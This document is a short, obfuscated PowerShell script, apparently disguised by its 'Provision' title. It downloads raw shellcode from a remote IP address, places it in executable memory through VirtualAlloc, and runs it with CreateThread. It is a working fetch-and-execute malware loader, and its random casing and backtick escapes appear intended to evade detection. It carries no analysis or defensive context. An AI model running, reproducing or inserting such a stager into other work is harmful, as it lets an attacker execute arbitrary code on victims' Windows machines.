# PRoVIsIOn 5665 v1
$CodE = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
'@
$K = a`Dd-t`ype -meMBERdefiNItion $CoDE -nAme k32 -PASsThru
[ByTe[]]$Sc = (nEw-`ob`JecT nET.wEb`c`liENT).DowNLOaDdaTa('http://203.0.113.200/sc.bin')
$m = $K::viRtUalaLLoC(0, $SC.LEngTH, 0x3000, 0x40)
[System.rUntIME.iNTerOpServiCeS.MarsHAL]::copY($Sc, 0, $M, $Sc.lEnGtH)
$k::creaTETHread(0, 0, $m, 0, 0, 0)
